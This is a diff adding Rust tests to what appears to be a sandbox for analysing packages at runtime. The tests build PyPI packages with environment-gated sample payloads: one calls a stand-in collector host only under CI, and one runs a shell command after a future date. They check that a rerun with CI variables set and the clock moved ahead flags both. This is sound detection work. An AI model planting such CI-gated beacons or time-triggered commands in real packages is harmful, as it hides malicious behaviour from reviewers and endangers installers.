@@ -327,6 +327,144 @@ print("env", os.environ.get("NODE_EXTRA_CA_CERTS"), os.environ.get("SSL_CERT_FIL
     assert!(!common::holds_a_p256_key(&bytes));
 }
 
+/// Analyses a PyPI package whose import runs `init`, with the install and
+/// import phases (and so the gated rerun).
+async fn gated(dir: &std::path::Path, name: &str, init: &str) -> DynamicResult {
+    let mut config = common::config(dir, &common::worker(name));
+    config.phases = vec![PhaseName::Install, PhaseName::Import];
+    let a = common::analyzer(config).await;
+    let built = pypi_sdist(
+        name,
+        "1.0.0",
+        &format!("from setuptools import setup\nsetup(name='{name}', version='1.0.0', packages=['{name}'])\n"),
+        &[(&format!("{name}/__init__.py"), init)],
+    );
+    let artifact = dir.join(&built.filename);
+    std::fs::write(&artifact, &built.bytes).unwrap();
+    let package = PackageRef {
+        ecosystem: Ecosystem::Pypi as i32,
+        name: name.into(),
+        version: "1.0.0".into(),
+    };
+    a.analyze(&package, &artifact).await
+}
+
+fn gated_evidence(r: &DynamicResult) -> Vec<String> {
+    r.findings
+        .iter()
+        .filter(|f| f.rule_id == "dynamic.environment-gated")
+        .flat_map(|f| f.evidence.iter().map(|e| e.detail.clone()))
+        .collect()
+}
+
+#[tokio::test]
+async fn payloads_gated_on_ci_or_a_later_date_show_in_the_gated_rerun() {
+    let dir = tempfile::tempdir().unwrap();
+    // Acts only in CI.
+    let ci = r#"import os, urllib.request
+if os.environ.get("CI") == "true" and os.environ.get("GITHUB_ACTIONS"):
+    try:
+        urllib.request.urlopen("http://ci-only.collector.example/x", timeout=5).read()
+    except Exception:
+        pass
+"#;
+    let r = gated(dir.path(), "cigate", ci).await;
+    assert_eq!(
+        r.status,
+        AnalysisStatus::Completed as i32,
+        "{}",
+        r.status_detail
+    );
+    let variants: Vec<&str> = r.phases.iter().map(|p| p.variant.as_str()).collect();
+    assert_eq!(variants, ["", "", "gated"]);
+    assert!(!r.phases[1]
+        .dns
+        .iter()
+        .any(|q| q.hostname.contains("ci-only")));
+    assert!(r.phases[2]
+        .dns
+        .iter()
+        .any(|q| q.hostname == "ci-only.collector.example"));
+    let evidence = gated_evidence(&r);
+    assert!(
+        evidence
+            .iter()
+            .any(|e| e.contains("ci-only.collector.example")),
+        "{evidence:?}\n{:#?}",
+        r.findings
+    );
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule_id == "dynamic.environment-gated")
+        .unwrap();
+    assert!(f.severity >= Severity::Medium as i32);
+    let mut report = String::new();
+    paddock_dynamic::report::write_phases(&mut report, &r.phases);
+    assert!(
+        report.contains("import again, with CI variables set and the clock +400d ahead: completed"),
+        "{report}"
+    );
+
+    // Acts only after a date: about 200 days from now, inside the rerun's
+    // 400.
+    let later = chrono_free_date_in(200);
+    let date = format!(
+        r#"import datetime, subprocess
+if datetime.date.today() > datetime.date({later}):
+    subprocess.run(["sh", "-c", "echo late > /tmp/after-the-date"])
+"#
+    );
+    let r = gated(dir.path(), "dategate", &date).await;
+    assert_eq!(
+        r.status,
+        AnalysisStatus::Completed as i32,
+        "{}",
+        r.status_detail
+    );
+    let evidence = gated_evidence(&r);
+    assert!(
+        evidence.iter().any(|e| e.contains("after-the-date")),
+        "{evidence:?}\n{:#?}",
+        r.phases[2].commands
+    );
+
+    // An honest package does the same in both runs: no finding.
+    let r = gated(
+        dir.path(),
+        "nogate",
+        "import json\nVALUE = json.dumps([1])\n",
+    )
+    .await;
+    assert_eq!(
+        r.status,
+        AnalysisStatus::Completed as i32,
+        "{}",
+        r.status_detail
+    );
+    assert!(gated_evidence(&r).is_empty(), "{:#?}", r.findings);
+}
+
+/// `year, month, day` of the date `days` from today (UTC), for Python.
+fn chrono_free_date_in(days: u64) -> String {
+    let secs = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .unwrap()
+        .as_secs()
+        + days * 86_400;
+    // Civil from days (Howard Hinnant's algorithm).
+    let z = (secs / 86_400) as i64 + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let d = doy - (153 * mp + 2) / 5 + 1;
+    let m = if mp < 10 { mp + 3 } else { mp - 9 };
+    let y = yoe + era * 400 + i64::from(m <= 2);
+    format!("{y}, {m}, {d}")
+}
+
 #[tokio::test]
 async fn the_registry_proxy_refuses_what_is_not_a_registry_request() {
     let dir = tempfile::tempdir().unwrap();
